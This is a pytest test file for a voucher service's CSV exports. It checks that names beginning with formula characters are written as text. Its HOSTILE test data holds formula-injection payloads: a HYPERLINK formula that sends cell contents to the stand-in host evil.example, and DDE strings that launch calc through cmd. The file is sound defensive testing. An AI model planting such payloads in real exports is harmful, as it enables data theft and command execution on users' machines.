"""Formula injection through the CSV exports: a program or agency name that starts like a spreadsheet formula is
written as text (a leading `'`), in every CSV the service writes, through the one writer in `core.csv_export`."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from aiohttp.test_utils import TestClient

from core.csv_export import csv_text
from tests.support.world import World, expect, issue, program_body, redeem

Client = TestClient[Any, Any]
ROOT = Path(__file__).resolve().parents[2]

# What Excel, LibreOffice and Google Sheets start a formula with (OWASP's list), each leading a hostile name.
HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1 代理所",
    "cr": "\r=1+1 代理所",
    "cr inside": "杭州代理所\r@SUM(1+1)*cmd|' /C calc'!A0",  # a bare CR starts a new row, unless quoted
}
NUMBER = re.compile(r"-?[0-9]+")


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_live_formula(text: str) -> None:
    for row in cells(text):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n"):
                assert NUMBER.fullmatch(cell), f"a live formula in the export: {cell!r}"


@pytest.fixture(params=list(HOSTILE), ids=list(HOSTILE))
async def hostile_report(request: pytest.FixtureRequest, client: Client, world: World) -> tuple[int, str]:
    """A program and the agency redeemed at, both named `HOSTILE[param]`; (program id, the name as stored: the
    schemas strip a leading tab or CR, and what is left still starts a formula)."""
    name = HOSTILE[request.param]
    official = world.official
    agency = f"/api/v1/agencies/{world.agency_a}"
    await expect(await client.patch(agency, json={"name_zh": name}, headers=official.headers), 200)
    created = await client.post("/api/v1/voucher-programs", json=program_body(name=name), headers=official.headers)
    program_id = int((await expect(created, 201))["id"])
    [voucher_id] = await issue(client, official, program_id, world.enterprise_2)
    await expect(await redeem(client, world.enterprise_other, voucher_id, world.agency_a), 201)
    stored = (await expect(await client.get(f"/api/v1/voucher-programs/{program_id}"), 200))["name"]
    assert stored == name.strip() and (await expect(await client.get(agency), 200))["name_zh"] == stored
    return program_id, stored


async def test_report_csv_writes_hostile_names_as_text(client: Client, world: World, hostile_report: Any) -> None:
    program_id, name = hostile_report
    headers = world.official.headers
    for path, query in (
        (f"/api/v1/voucher-programs/{program_id}/report.csv", {}),
        (f"/api/v1/voucher-programs/{program_id}/report", {"format": "csv"}),
    ):
        response = await client.get(path, params=query, headers=headers)
        assert response.status == 200 and response.content_type == "text/csv"
        text = await response.text()
        print(repr(text[:600]))
        assert_no_live_formula(text)
        rows = cells(text)[1:]
        assert [row[0] for row in rows] == ["programme", "agency", "service"]
        written = "'" + name if name.startswith(("=", "+", "-", "@")) else name
        assert rows[0][2] == rows[1][2] == written


async def test_series_csv_has_no_live_formula(client: Client, world: World, hostile_report: Any) -> None:
    program_id, _name = hostile_report
    response = await client.get(
        f"/api/v1/voucher-programs/{program_id}/report/series",
        params={"format": "csv"},
        headers=world.official.headers,
    )
    assert response.status == 200 and response.content_type == "text/csv"
    assert_no_live_formula(await response.text())


def test_a_line_break_inside_a_name_stays_inside_its_cell() -> None:
    text = csv_text(["name", "n"], [["正常名称\r=HYPERLINK(1)", 1], ["正常名称\n@SUM(1)", 2]])
    assert cells(text) == [["name", "n"], ["正常名称\r=HYPERLINK(1)", "1"], ["正常名称\n@SUM(1)", "2"]]
    assert_no_live_formula(text)


def test_the_writer_neutralises_text_cells_only() -> None:
    text = csv_text(
        ["name", "amount"], [["\t=1+1", -500], ["\r@SUM(A1)", 0], ["-x", 1], ["普通名称", 2], ["'=kept", 3]]
    )
    assert cells(text) == [
        ["name", "amount"],
        ["'\t=1+1", "-500"],
        ["'\r@SUM(A1)", "0"],
        ["'-x", "1"],
        ["普通名称", "2"],
        ["'=kept", "3"],
    ]


def test_every_csv_the_service_writes_goes_through_the_one_writer() -> None:
    """A new export that makes its own `csv.writer` would skip the neutralising: only core/csv_export.py may."""
    # The service's own code: the top-level Python packages (virtual environments and build output are none).
    packages = [d for d in ROOT.iterdir() if (d / "__init__.py").is_file() and d.name != "tests"]
    writers = []
    for path in [ROOT / "server.py", *(p for d in packages for p in d.rglob("*.py"))]:
        relative = path.relative_to(ROOT)
        if re.search(r"\bcsv\.(writer|DictWriter)\b|\bfrom csv import\b", path.read_text(encoding="utf-8")):
            writers.append(str(relative))
    assert writers == ["core/csv_export.py"]
